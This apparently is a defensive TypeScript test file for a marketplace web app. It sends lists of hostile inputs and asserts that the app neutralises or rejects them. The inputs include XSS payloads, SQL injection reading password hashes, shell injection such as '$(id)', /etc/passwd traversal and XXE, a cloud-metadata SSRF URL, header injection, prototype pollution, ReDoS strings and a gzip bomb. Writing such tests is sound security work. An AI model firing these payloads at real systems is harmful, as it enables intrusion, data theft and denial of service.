import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { anyPicture } from '../../src/testing/pictures.ts';
import type { Attack, AttackKind } from './Attack.ts';
import { type Question, isDone, readJson } from './createAsker.ts';
import { limitWork } from './limitWork.ts';
import type { AttackedMarket } from './openAttackedMarket.ts';

/** How much processor time, in milliseconds, an answer to any text may take. */
const mostWork = 2_000;

/** Texts that act where they are shown as they came. */
const scripts = [
  '<script>attack()</script>',
  '</script><script>attack()</script>',
  '<!--</script><script>attack()//',
  '</title><script>attack()</script>',
  '</style><script>attack()</script>',
  '</textarea><script>attack()</script>',
  '<img src=x onerror=attack()>',
  '<svg/onload=attack()>',
  '"><svg/onload=attack()>',
  '\'"><img src=x onerror=attack()>',
  '" onmouseover="attack()" x="',
  '<a href="javascript:attack()">here</a>',
  '<iframe srcdoc="<script>attack()</script>">',
  '<math><mtext></p><img src=x onerror=attack()>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href="//evil.example/">',
  '<form action="//evil.example/"><input name=password>',
  '\u2028<script>attack()</script>\u2029',
  '<scr\u0131pt>attack()</script><ScRiPt>attack()</sCrIpT>',
];

/** Texts for what stands behind: databases, templates, shells, files, patterns. */
const inserts = [
  "' or '1'='1",
  "'; drop table people; --",
  "' union select email, password_hash from people --",
  "'; select pg_sleep(5); --",
  "1; copy people to program 'id'",
  '%',
  '_',
  '\\',
  '%%%%%',
  "\\'; --",
  '$1',
  ':tsquery & !',
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '$(id)',
  '`id`',
  '| id',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '__proto__',
  'constructor',
  'toString',
  '%s%n%x',
  '\u202Eevil',
  '\uFEFF',
  '\uD800',
  '\0',
  'a\0b',
  'x\r\nSet-Cookie: session=planted',
  '(a+)+$',
  `${'a'.repeat(198)}!`,
  '!'.repeat(200),
  `${'( '.repeat(100)}`,
  `${'\u0300'.repeat(200)}`,
  '٠١٢٣٤',
  'ﷺ'.repeat(200),
  '👩‍👩‍👧‍👦'.repeat(18),
];

const ids = [
  '0',
  '-1',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  '%00',
  '%0d%0aX-Evil:%201',
  "1'%20or%20'1'='1",
  '1;drop%20table%20people',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '%F0%9F%92%A9',
  '%ED%A0%80',
  '507f1f77bcf86cd799439011',
  '00000000-0000-0000-0000-000000000000',
  '9'.repeat(64),
  'a'.repeat(199),
];

export const textAttacks: AttackKind = {
  name: 'Nasty texts',
  list: (market) => [
    ...listStoredTexts(market),
    ...listSearches(market),
    ...listIds(market),
    ...listBodies(market),
  ],
};

/** What nothing in a page may be that came from people: a tag, or an attribute of one. */
function assertInert(html: string, text: string) {
  assert.ok(!html.includes(text), 'It stands in the page as it came.');
  const scriptCount = html.match(/<script[\s>]/gi)?.length ?? 0;
  const endCount = html.match(/<\/script[\s>]/gi)?.length ?? 0;
  assert.equal(scriptCount, endCount, 'A script ends before its end.');
  for (const [tag] of html.matchAll(/<[a-z][^<>"']*(?:"[^"]*"[^<>"']*|'[^']*'[^<>"']*)*>/gi)) {
    const bare = tag.replaceAll(/"[^"]*"|'[^']*'/g, '""');
    assert.ok(!/attack|evil\.example/.test(bare), `It has become a tag: ${tag.slice(0, 200)}`);
  }
}

const plainService = { price: 500, category: 'Mobile-Apps', images: [anyPicture] };

/** Names and titles take one line only: what ends a line in them is refused. */
const toLine = (text: string) => text.replaceAll(/[\u2028\u2029]/g, ' ');

/** Texts that are stored come back in pages and answers as texts. */
function listStoredTexts({ asker, vera, sven }: AttackedMarket): Attack[] {
  const offer = async (text: string) => {
    const { service } = await vera.client.createService({
      title: `Inert ${toLine(text)}`.slice(0, 100),
      description: text,
      price: 500,
      category: 'Mobile-Apps',
      images: [anyPicture],
    });
    return service;
  };
  const readPage = async (path: string) => {
    const { text, headers } = await asker.ask({ path });
    assert.match(headers['content-type'] ?? '', /^text\/html/);
    return text;
  };

  return [
    ...scripts.flatMap((text) => [
      {
        name: `A service that is called ${JSON.stringify(text)}`,
        attempt: async () => {
          const { _id } = await offer(text);
          const comment = `${text} said somebody.`;
          await sven.client.reviewService({ serviceId: _id, rating: 1, comment });
          const html = await readPage(`/service/${_id}`);
          assert.match(html, /Inert /, 'The page was not rendered.');
          assertInert(html, text);
          assertInert(await readPage('/'), text);
        },
      },
      {
        name: `A person who is called ${JSON.stringify(text)}`,
        attempt: async () => {
          const { client, fullname, _id } = sven;
          const line = toLine(text);
          await client.updateProfile({ fullname: line, bio: `Inert ${text}`, from: line });
          const html = await readPage(`/user/${_id}`);
          await client.updateProfile({ fullname, bio: '', from: '' });
          assert.match(html, /Inert /, 'The page was not rendered.');
          assertInert(html, text);
        },
      },
      {
        name: `A search for ${JSON.stringify(text)}`,
        attempt: async () => {
          assertInert(await readPage(`/search/${encodeURIComponent(text)}`), text);
          const { text: moved } = await asker.ask({ path: `/?term=${encodeURIComponent(text)}` });
          assert.ok(!moved.includes(text));
        },
      },
    ]),
    ...inserts.map((text) => ({
      name: `A service with ${JSON.stringify(text).slice(0, 60)} in all its texts`,
      attempt: async () => {
        const title = `Plain ${text}`.slice(0, 100);
        const answer = await vera.ask({
          method: 'POST',
          path: '/api/services/new',
          body: { ...plainService, title, description: text },
        });
        if (answer.status === 400) return;
        const { service } = readJson(answer) as { service: { _id: string; title: string } };
        assert.equal(service.title, title.trim().replaceAll('\uD800', '\uFFFD'));
        await vera.client.deleteService({ id: service._id });
      },
    })),
  ];
}

function listSearches(market: AttackedMarket): Attack[] {
  return [...inserts, ...scripts.slice(0, 5), '', '*', '"', 'x'.repeat(50_000)].map((text) => ({
    name: `A list of services with the keyword ${JSON.stringify(text).slice(0, 60)}`,
    attempt: () =>
      limitWork(market, mostWork, async () => {
        const keyword = encodeURIComponent(text.replaceAll('\uD800', '\uFFFD'));
        const answer = await market.asker.ask({ path: `/api/services?keyword=${keyword}` });
        assert.ok([200, 400, 414, 431].includes(answer.status));
        if (answer.status === 200) assert.ok(isDone(answer));
      }),
  }));
}

function listIds({ asker, vera }: AttackedMarket): Attack[] {
  const paths: [string, string][] = [
    ['GET', '/api/services/'],
    ['DELETE', '/api/services/'],
    ['GET', '/api/auth/user/'],
    ['GET', '/api/order/'],
    ['PUT', '/api/order/myOrders/'],
    ['DELETE', '/api/auth/sessions/'],
    ['DELETE', '/api/cart/deleteCartItem/'],
  ];
  const files = ['/images/', '/sitemaps/services/', '/assets/'];
  return ids.flatMap((id) => [
    ...paths.map(([method, path]) => ({
      name: `${method} ${path}${id.slice(0, 40)}`,
      attempt: async () => {
        const body = method === 'PUT' ? { orderStatus: 'Delivered' } : undefined;
        const answer = await vera.ask({ method, path: `${path}${id}`, body });
        assert.ok([400, 404, 414].includes(answer.status), `It got ${answer.status}.`);
      },
    })),
    {
      name: `Pages and files by the id ${id.slice(0, 40)}`,
      attempt: async () => {
        for (const path of ['/service/', '/user/']) {
          const { headers } = await asker.ask({ path: `${path}${id}` });
          assert.equal(headers['x-evil'], undefined);
        }
        for (const path of files) {
          const answer = await asker.ask({ path: `${path}${id}` });
          assert.ok([302, 400, 404].includes(answer.status), `${path} got ${answer.status}.`);
          assert.doesNotMatch(answer.text, /root:.*:0:0:/);
          assert.equal(answer.headers['x-evil'], undefined);
        }
      },
    },
  ]);
}

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const boundary = { 'content-type': 'multipart/form-data; boundary=x' };
const part = (disposition: string, text = 'text') =>
  `--x\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${text}\r\n`;

/** Bodies that are not what they say, or more than they seem. */
function listBodies(market: AttackedMarket): Attack[] {
  const { asker, vera } = market;
  /** Not all that she sees: an order that was paid for a while ago may be made meanwhile. */
  const lookAtProfile = async () => JSON.stringify(await vera.client.loadUser());

  const bodies: Record<string, Omit<Question, 'path'>> = {
    'a key __proto__': { headers: json, body: '{"__proto__":{"polluted":1},"fullname":"Taken"}' },
    'a key constructor.prototype': {
      headers: json,
      body: '{"constructor":{"prototype":{"polluted":1}},"fullname":"Taken"}',
    },
    'a form with __proto__': { headers: form, body: '__proto__[polluted]=1&fullname[]=Taken' },
    'a form with constructor.prototype': {
      headers: form,
      body: 'constructor[prototype][polluted]=1&fullname[]=Taken',
    },
    'a part that is called __proto__': {
      headers: boundary,
      body: `${part('name="__proto__"')}${part('name="fullname"', '')}--x--\r\n`,
    },
    'lists in each other': {
      headers: json,
      body: `{"bio":${'['.repeat(5_000)}${']'.repeat(5_000)}}`,
    },
    'objects in each other': {
      headers: json,
      body: `{"bio":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}`,
    },
    'just too deep': {
      headers: json,
      body: `{"fullname":"Taken","x":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}`,
    },
    'a list for an object': { headers: json, body: '[{"fullname":"Taken"}]' },
    'a text for an object': { headers: json, body: '"fullname"' },
    'null for an object': { headers: json, body: 'null' },
    'a list for a text': { headers: json, body: '{"fullname":["Taken"]}' },
    'an object for a text': { headers: json, body: '{"fullname":{"toString":"Taken"}}' },
    'half a text': { headers: json, body: '{"fullname":"Taken' },
    'two texts': { headers: json, body: '{"fullname":"Taken"}{"fullname":"Taken"}' },
    'a comment': { headers: json, body: '/* */{"fullname":"Taken"}' },
    'NUL in a text': { headers: json, body: '{"fullname":"Ta\\u0000ken"}' },
    'NUL between': { headers: json, body: '{"fullname":\0"Taken"}' },
    'UTF-16': { headers: json, body: Buffer.from('{"fullname":"Taken"}', 'utf16le') },
    'a megabyte': { headers: json, body: `{"fullname":"${'T'.repeat(1_000_000)}"}` },
    'a name of 101 letters': { headers: json, body: `{"fullname":"${'T'.repeat(101)}"}` },
    'a thousand fields': {
      headers: form,
      body: Array.from({ length: 1_000 }, (_, index) => `f${index}=1`)
        .join('&')
        .concat('&fullname='),
    },
    'a thousand parts': {
      headers: boundary,
      body: `${Array.from({ length: 1_000 }, (_, index) => part(`name="f${index}"`)).join('')}--x--\r\n`,
    },
    'parts without an end': { headers: boundary, body: part('name="fullname"', 'Taken') },
    'parts without a boundary': {
      headers: { 'content-type': 'multipart/form-data' },
      body: part('name="fullname"', 'Taken'),
    },
    'a file for a name, from another folder': {
      headers: boundary,
      body: `${part('name="avatar"; filename="../../evil.png"', '<svg/>')}--x--\r\n`,
    },
    XML: {
      headers: { 'content-type': 'application/xml' },
      body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><fullname>&e;</fullname>',
    },
    'JSON as plain text': {
      headers: { 'content-type': 'text/plain' },
      body: '{"fullname":"Taken"}',
    },
    YAML: { headers: { 'content-type': 'text/yaml' }, body: 'fullname: !!js/function Taken' },
    'no type': { headers: { 'content-type': '' }, body: '{"fullname":"Taken"}' },
    'a bomb of gzip': {
      headers: { ...json, 'content-encoding': 'gzip' },
      body: gzipSync(Buffer.alloc(50_000_000, 32)),
    },
  };
  const prices = ['1e309', '-0.01', '1e21', '0x10', '[1]', '{"$gt":0}', '"1,000"', '0.001', 'NaN'];

  return [
    ...Object.entries(bodies).map(([name, question]) => ({
      name: `A profile changed with ${name}`,
      attempt: async () => {
        const before = await lookAtProfile();
        const path = '/api/auth/me/update';
        await limitWork(market, mostWork, () => vera.ask({ method: 'PUT', path, ...question }));
        assert.equal(await lookAtProfile(), before);
        assert.equal((await asker.ask({ path: '/api/auth/me' })).status, 401);
        const services = await asker.ask({ path: '/api/services' });
        assert.ok(!services.text.includes('polluted'));
      },
    })),
    ...prices.map((price) => ({
      name: `A service for ${price} rupees`,
      attempt: async () => {
        const rest = `"title":"Nasty price","description":"x","category":"Mobile-Apps"`;
        const body = `{${rest},"price":${price},"images":["${anyPicture}"]}`;
        const path = '/api/services/new';
        assert.ok(!isDone(await vera.ask({ method: 'POST', path, headers: json, body })));
      },
    })),
    ...['page=1e309', 'page=-1', 'page[]=1', 'page[a]=1', 'page=1&page=2', 'price[gte]=x'].map(
      (query) => ({
        name: `A list of services with ${query}`,
        attempt: async () => void (await asker.ask({ path: `/api/services?${query}` })),
      }),
    ),
    {
      name: 'A review that counts for more than one',
      attempt: async () => {
        for (const rating of [6, 0, -5, 4.5, '5; 5', [5, 5], 1e9, null]) {
          const serviceId = market.svenService._id;
          const body = { serviceId, rating, comment: 'Nasty.' };
          const path = '/api/services/review';
          assert.ok(!isDone(await vera.ask({ method: 'PUT', path, body })));
        }
      },
    },
  ];
}
